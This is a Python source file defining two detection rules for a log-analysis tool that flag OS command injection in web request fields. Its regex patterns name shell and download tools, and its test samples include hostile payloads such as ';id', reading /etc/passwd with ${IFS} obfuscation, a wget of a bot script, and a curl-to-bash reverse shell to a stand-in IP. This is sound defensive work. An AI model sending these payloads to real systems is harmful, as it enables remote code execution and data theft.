"""OS command injection: shell syntax and download-and-run chains in request fields."""

from __future__ import annotations

import re

from lwsyslog.rules.base import BOTH, PAYLOAD_FIELDS, PatternRule
from lwsyslog.rules.samples import AccessSample, ErrorSample
from lwsyslog.severity import Severity

__all__ = ["CommandDownloadExec", "CommandShellChain"]

_COMMANDS = (
    r"(?:id|uname|whoami|cat|ls|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|ping|nslookup|dig"
    r"|sleep|echo|chmod|rm|python[23]?|perl|php|ruby|busybox|tftp|telnet|ifconfig|ipconfig"
    r"|hostname|net\s+user|powershell|systeminfo|env|printenv|uptime|ps|sudo|nohup|tasklist)"
)


class CommandShellChain(PatternRule):
    """A shell separator or substitution followed by a command (``;id``, ``|cat``, ``$(...)``)."""

    id = "command-injection-chain"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "shell separator or substitution followed by a command (;id, |cat, $(...))"
    logs = BOTH
    fields = ("target", "referer", "message")
    # Also the shell's own obfuscations: ${IFS} for a space, quotes splitting a command name
    # (c''at), and ?-globs standing for one (/???/c?t).
    pattern = re.compile(
        rf"(?:[;|`\n]|&&|\$\()\s*(?:/(?:usr/)?s?bin/)?{_COMMANDS}(?=$|[\s;|&`)<>'\"$])"
        r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
        r"|/\?{3}/[\w?]{0,10}\?"
    )
    gate = ";|`\n$&"
    must_match = (
        AccessSample(target="/ping.php?host=127.0.0.1;id"),
        AccessSample(target="/ping.php?host=127.0.0.1;cat$%7BIFS%7D/etc/passwd"),
        AccessSample(target="/ping.php?host=x;c''at%20/etc/hosts"),
        AccessSample(target="/ping.php?host=x|/???/c?t%20/etc/passwd"),
        AccessSample(target="/ping.php?host=127.0.0.1%7Ccat%20/etc/passwd"),
        AccessSample(target="/diag?ip=8.8.8.8%0Auname%20-a"),
        AccessSample(target="/diag?ip=%24(whoami)"),
        AccessSample(target="/diag?ip=%60id%60"),
    )
    must_not_match = (
        AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
        AccessSample(target="/search?q=tom+%26+jerry&id=5"),
        AccessSample(target="/api/items?fields=name|title&sort=-id"),
    )


class CommandDownloadExec(PatternRule):
    """Download-and-run or shell-spawning command lines (``wget http://``, ``cmd.exe /c``)."""

    id = "command-injection-exec"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "download-and-execute or shell invocation (wget http://, /bin/sh, cmd.exe /c)"
    logs = BOTH
    fields = PAYLOAD_FIELDS
    pattern = re.compile(
        r"\b(?:wget|curl|fetch|lwp-download|tftp)\s+(?:-{1,2}[\w-]+\s+(?:[^\s:]+\s+)?){0,4}"
        r"(?:https?|ftp|tftp)://"
        r"|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+x)\s"
        r"|(?<![\w-])/bin/(?:ba|da|z|k|c)?sh\b|/dev/(?:tcp|udp)/"
        r"|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+){0,4}\S+\s+\d{2,5}\b"
        r"|\bcmd(?:\.exe)?\s*\??\s*/[ck]\b"
        r"|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|nop|w|c|command)\b"
        r"|\bbase64\s+-d\b|\b(?:python[23]?|perl|ruby|sh|bash)\s+-[ce]\s"
    )
    words = frozenset(
        {
            "wget", "curl", "fetch", "tftp", "lwp", "chmod", "bin", "dev", "nc", "ncat", "netcat",
            "cmd", "powershell", "base64", "python", "python2", "python3", "perl", "ruby", "sh",
            "bash",
        }
    )  # fmt: skip
    gate = " \n;|`"
    must_match = (
        AccessSample(target="/cgi-bin/x?c=cd%20/tmp;wget%20http://198.51.100.9/bot.sh"),
        AccessSample(target="/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
        AccessSample(
            target="/",
            user_agent="curl -s http://198.51.100.9/x | bash -c "
            "'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'",
        ),
        ErrorSample(message="AH01215: sh: 1: wget -q -O- http://198.51.100.9/m.sh: not found"),
    )
    must_not_match = (
        AccessSample(target="/cgi-bin/status.cgi?show=uptime"),
        AccessSample(target="/downloads/curl-8.5.0.tar.gz", user_agent="curl/8.5.0"),
        AccessSample(target="/docs/commands?name=chmod"),
    )
